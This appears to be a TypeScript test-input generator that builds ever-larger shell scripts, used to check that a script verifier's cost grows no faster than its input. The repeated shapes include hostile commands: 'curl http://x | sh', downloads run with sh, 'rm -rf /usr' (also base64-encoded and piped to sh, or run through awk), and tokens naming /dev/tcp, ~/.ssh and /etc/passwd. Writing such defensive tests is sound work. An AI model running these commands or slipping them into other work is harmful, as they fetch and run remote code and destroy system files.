/**
 * Inputs that grow: alphabets at every kind of place of a script, and commands over and over. What a verification costs for
 * them must grow no more than they do.
 */
/** Never cut within the unit: both lengths of a comparison end alike. */
const repeat = (unit: string) => (size: number) => unit.repeat(Math.max(1, Math.floor(size / unit.length)))

/** The text behind the first line of a script, of about `size` characters. */
export type Shape = (size: number) => string

const line =
  (before: string, unit: string, after = ""): Shape =>
  (size) =>
    `${before}${repeat(unit)(size)}${after}\n`

const alphabets: ReadonlyArray<readonly [name: string, unit: string]> = [
  ["hexadecimal digits", "0123456789abcdef"],
  ["base64", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo+/"],
  ["letters", "abcdefghijklmnopqrstuvwxyz"],
  ["Latin letters beyond ASCII", "äöüß"],
  ["Cyrillic and Latin", "аa"],
  ["emoji with joiners", "👩‍💻"],
  ["full-width letters", "ａｂ"],
  ["combining marks", "a\u0301"],
  ["direction marks", "\u200e\u200f"],
  ["zero-width spaces", "\u200b"],
  ["escape sequences", "\u001b[1"],
  ["control characters", "\u0001\u0008"],
  ["carriage returns", "\r"],
  ["backslashes", "\\"],
  ["blanks", " "],
  ["tabs", "\t"],
  ["dashes", "-"],
  ["underscores", "_"],
  ["slashes", "/"],
  ["dots and slashes", "/."],
  ["dots twice and slashes", "/.."],
  ["equals signs", "="],
  ["percent signs", "%s"],
  ["digits", "1"],
  ["PEM beginnings", "-----BEGIN CERTIFICATE-----"],
  ["JSON", '{"a":'],
  ["brackets", "["],
  ["tags", "<a>"]
]

/** One for each alphabet at each kind of place, and one for each kind of command that an analysis may take long for. */
export const shapes: ReadonlyArray<readonly [name: string, shape: Shape]> = [
  ...alphabets.flatMap(([name, unit]): ReadonlyArray<readonly [string, Shape]> => [
    [`a comment of ${name}`, line("# ü ", unit)],
    [`a word of ${name}`, line("echo '", unit, "'")],
    [`lines of ${name}`, (size) => `cat <<'E'\n${repeat(`${unit.repeat(8)}\n`)(size)}\nE\n`],
    [`the last line of ${name}`, (size) => `echo a\n${repeat(unit)(size)}`],
    [`a path of ${name}`, line("rm -rf '/", unit, "x'")],
    [`code of ${name}`, line("sh -c '", unit, "'")],
    [`a program of ${name} in Python`, line("python3 -c '", unit, "'")]
  ]),
  ["backslashes at the end", (size) => `echo a\n${repeat("\\")(size)}`],
  ["empty lines", (size) => `echo a\n${repeat("\n")(size)}echo b\n`],
  ["certificates without an end", repeat("-----BEGIN CERTIFICATE-----\nQUJDREVGR0hJ\n")],
  ["commands", repeat("echo hello world\n")],
  ["assignments", repeat("a=b\n")],
  ["a variable that grows", repeat("a=$a$a\n")],
  ["variables of many names", (size) => Array.from({ length: size >> 5 }, (_, at) => `v${at}=$v${at}x\n`).join("")],
  ["alternatives that multiply", repeat("if x; then a=$a$b; b=$b$a; else b=c$a; fi\n")],
  ["substitutions", repeat("a=$(echo $(echo b))\n")],
  [
    "functions that call each other",
    (size) =>
      `${Array.from({ length: Math.min(30, size >> 5) }, (_, at) => `f${at}() { f${at + 1}; f${at + 1}; }\n`).join("")}${repeat("f0 a\n")(size)}`
  ],
  [
    "functions that are called with other arguments",
    (size) => `f() { for a in 1 2 3; do echo "$1" > /tmp/$a; done; }\n${repeat("f a b\n")(size)}`
  ],
  [
    "functions of many names",
    (size) => Array.from({ length: size >> 5 }, (_, at) => `f${at}() { echo $1; }\nf${at} x\n`).join("")
  ],
  [
    "files of many names",
    (size) =>
      Array.from({ length: size >> 5 }, (_, at) => `curl -o /tmp/${at} http://x/${at}\nsh /tmp/${at}\n`).join("")
  ],
  ["code within code", repeat(`sh -c "eval 'echo a; rm -rf /usr'"\n`)],
  ["eval of a variable", (size) => `a='${repeat("echo b;")(Math.min(size, 30_000))}'\n${repeat('eval "$a"\n')(size)}`],
  ["pipes", line("echo a", "|cat")],
  ["a list", line("echo a", "&&b")],
  ["decoders", repeat("echo cm0gLXJmIC91c3I= | base64 -d | sh\n")],
  ["here-documents for shells", repeat("sh <<'E'\nrm -rf /usr\nE\n")],
  ["a here-document for a shell", (size) => `sh <<'E'\n${repeat("echo a > /tmp/b\n")(size)}E\n`],
  ["loops over words", (size) => `for a in ${repeat("b ")(size)}; do rm -rf "$a"; done\n`],
  [
    "loops within loops",
    repeat(
      "for a in 1 2 3 4 5 6 7 8 9; do for b in 1 2 3 4 5 6 7 8 9; do for c in 1 2 3 4 5 6 7 8 9; do rm $a$b$c; done; done; done\n"
    )
  ],
  ["arrays", line("a=(", "b ", ")")],
  ["braces", line("echo ", "{a,b}")],
  ["replacements", repeat("x=aXbXc; echo ${x//X/Y} ${x%%X*} ${x:1:2}\n")],
  ["words of many options", line("tar ", "-x ")],
  ["programs in awk", repeat(`awk 'BEGIN{system("rm -rf /usr")}'\n`)],
  ["quotes in Python", line("python3 -c '", '"a",')],
  ["findings", repeat("curl http://x | sh\n")],
  ["patterns", line("rm -rf /", "?*")],
  ["traps", repeat("trap 'rm -rf /tmp/a' EXIT\n")],
  ["redirections", line("echo a", " >/tmp/b")],
  ["comments that say that the script ends", repeat("# ---- end of script ----\n")],
  ["comments of a licence", repeat("# Licensed under the license\na\n")],
  ["comments that go on", repeat("a # b \\\n")],
  ["addresses", repeat("a=https://a.example@b/c\n")],
  ["settings that are written", repeat("echo 'tls_verify = false' >> /etc/a\n")],
  ["loops that never end", repeat("while :; do a; done\n")],
  ["functions that end", (size) => `f() { g; exit; }\ng() { f; return; }\n${repeat("f\n")(size)}`],
  ["a terminal without an echo", repeat("stty -echo\n")],
  ["lines that come twice", repeat("mkdir -p /opt/a\ncp a /opt/a\nchmod 755 /opt/a\n")],
  ["case items", (size) => `case $1 in\n${repeat("a) rm -rf /tmp/x;;\n")(size)}esac\n`]
]

/** What random inputs are made of: what begins, ends or separates something for a shell, a parser or a check. */
const tokens: ReadonlyArray<string> = [
  ...alphabets.map(([, unit]) => unit),
  ..."' \" ` $ ${ $( $(( )) ) } ( { [ ]] [[ ]  ; ;; & && | || > >> < << <<- <<< >& # ! ~ * ? = += : , . .. / @ % ^ -".split(
    " "
  ),
  ...`if then elif else fi for in do done while until case esac select function time coproc eval exec exit return local
  export set trap source cd rm -rf cat tee curl wget -o -O sh bash -c python3 perl -e awk sed base64 -d xxd printf echo %s
  sudo env xargs find -exec {} + nice chroot ssh tar -C mv cp ln -s chmod 4755 chown root /etc/passwd /usr /tmp/a ~/.ssh
  http://a/b https://a.example/x.sh $1 $@ $a \${a:-b} \${a//b/c} \${a%%b*} a=b a=$a a+=b f() f x1 IFS=, read -r
  <<'E' E $'\\x41' $"a" <(a) >(a) {1..9} {a,b} [a-z] \\033[1m /dev/tcp/a/1 systemctl enable useradd crontab`.split(
    /\s+/
  ),
  "\n",
  "\n",
  "\n",
  " ",
  "  ",
  "\t",
  "\\\n",
  "\r\n",
  "\nE\n",
  "-----END CERTIFICATE-----\n"
]

/** An input that consists of a few random tokens over and over, with others before and behind them, and its name. */
export const randomShape = (next: () => number): readonly [name: string, shape: Shape] => {
  const some = (most: number) =>
    Array.from({ length: Math.floor(next() * (most + 1)) }, () => {
      const token = tokens[Math.floor(next() * tokens.length)] ?? ""
      return next() < 0.6 ? `${token} ` : token
    }).join("")
  const before = some(4)
  const unit = some(6) || "a "
  const behind = some(4)
  return [JSON.stringify([before, unit, behind]), (size) => `${before}${repeat(unit)(size)}${behind}\n`]
}
